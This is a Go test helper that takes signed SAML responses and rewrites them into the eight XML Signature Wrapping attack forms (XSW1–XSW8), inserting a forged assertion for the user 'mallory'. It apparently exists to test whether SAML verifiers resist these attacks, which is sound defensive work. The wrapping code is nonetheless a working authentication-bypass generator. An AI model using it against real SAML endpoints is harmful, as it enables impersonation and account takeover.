package samltest

import (
	"testing"

	"github.com/beevik/etree"
)

// What a forged assertion says: who an attacker would like to be.
const (
	EvilNameID = "mallory"
	EvilEmail  = "mallory@evil.test"
)

// Shape is one XML signature wrapping rewrite, numbered as in "On Breaking
// SAML" (Somorovsky et al., USENIX Security 2012) and SAMLRaider. Each
// keeps the IdP's valid signature somewhere in the document and puts a
// forged assertion where a careless verifier would read it.
type Shape int

// The shapes. XSW1 and XSW2 need a signed Response; the others a signed
// assertion.
const (
	// XSW1: a forged Response whose copied signature carries the original
	// signed Response in a ds:Object.
	XSW1 Shape = iota + 1
	// XSW2: a forged Response with the original signed Response as a
	// sibling before the (detached) signature.
	XSW2
	// XSW3: a forged assertion with the original's ID inserted before the
	// signed one.
	XSW3
	// XSW4: a forged assertion that contains the signed one.
	XSW4
	// XSW5: a forged assertion carrying the copied signature; the original,
	// unsigned, appended at the end.
	XSW5
	// XSW6: a forged assertion whose copied signature holds the original
	// assertion in a ds:Object.
	XSW6
	// XSW7: the signed assertion hidden in an Extensions element, the
	// forged one in its place.
	XSW7
	// XSW8: a forged assertion, unsigned, with the signature (moved from the
	// original) holding the original without its signature in a ds:Object.
	XSW8
)

// Shapes lists every shape, for table tests.
func Shapes() []Shape { return []Shape{XSW1, XSW2, XSW3, XSW4, XSW5, XSW6, XSW7, XSW8} }

// Wrap applies shape to a signed response and returns the forged one.
func Wrap(tb testing.TB, signed []byte, shape Shape) []byte {
	tb.Helper()
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(signed); err != nil {
		tb.Fatal(err)
	}
	resp := doc.Root()
	a := resp.FindElement("./Assertion")
	if a == nil {
		tb.Fatal("samltest: no assertion to wrap")
	}
	switch shape {
	case XSW1, XSW2:
		sig := resp.FindElement("./Signature")
		if sig == nil {
			tb.Fatalf("samltest: XSW%d needs a signed Response", shape)
		}
		orig := resp.Copy()
		resp.RemoveChild(sig)
		resp.CreateAttr("ID", "_evil_response")
		forgeInPlace(resp.FindElement("./Assertion"))
		sigCopy := sig.Copy()
		if shape == XSW1 {
			sigCopy.CreateElement("ds:Object").AddChild(orig)
			resp.InsertChildAt(1, sigCopy)
		} else {
			resp.InsertChildAt(1, orig)
			resp.InsertChildAt(2, sigCopy)
		}
	case XSW3:
		resp.InsertChildAt(a.Index(), forged(a))
	case XSW4:
		evil := forged(a)
		resp.InsertChildAt(a.Index(), evil)
		resp.RemoveChild(a)
		evil.AddChild(a)
	case XSW5:
		evil := a.Copy()
		forgeInPlace(evil)
		resp.InsertChildAt(a.Index(), evil)
		resp.RemoveChild(a)
		a.RemoveChild(signatureOf(tb, a))
		resp.AddChild(a)
	case XSW6, XSW8:
		evil := forged(a)
		sig := signatureOf(tb, a).Copy()
		orig := a.Copy()
		orig.RemoveChild(orig.FindElement("./Signature"))
		sig.CreateElement("ds:Object").AddChild(orig)
		if shape == XSW6 {
			evil.InsertChildAt(1, sig) // after the Issuer, where signatures go
		} else {
			evil.AddChild(sig)
		}
		resp.InsertChildAt(a.Index(), evil)
		resp.RemoveChild(a)
	case XSW7:
		evil := forged(a)
		ext := etree.NewElement("samlp:Extensions")
		resp.InsertChildAt(a.Index(), ext)
		resp.RemoveChild(a)
		ext.AddChild(a)
		resp.InsertChildAt(ext.Index()+1, evil)
	default:
		tb.Fatalf("samltest: unknown shape %d", shape)
	}
	b, err := doc.WriteToBytes()
	if err != nil {
		tb.Fatal(err)
	}
	return b
}

func signatureOf(tb testing.TB, a *etree.Element) *etree.Element {
	tb.Helper()
	sig := a.FindElement("./Signature")
	if sig == nil {
		tb.Fatal("samltest: the assertion is not signed")
	}
	return sig
}

// forged returns a copy of a, unsigned, that names the attacker.
func forged(a *etree.Element) *etree.Element {
	evil := a.Copy()
	if sig := evil.FindElement("./Signature"); sig != nil {
		evil.RemoveChild(sig)
	}
	forgeInPlace(evil)
	return evil
}

// forgeInPlace makes a name the attacker: NameID and email.
func forgeInPlace(a *etree.Element) {
	if n := a.FindElement("./Subject/NameID"); n != nil {
		n.SetText(EvilNameID)
	}
	for _, v := range a.FindElements("./AttributeStatement/Attribute[@Name='email']/AttributeValue") {
		v.SetText(EvilEmail)
	}
}
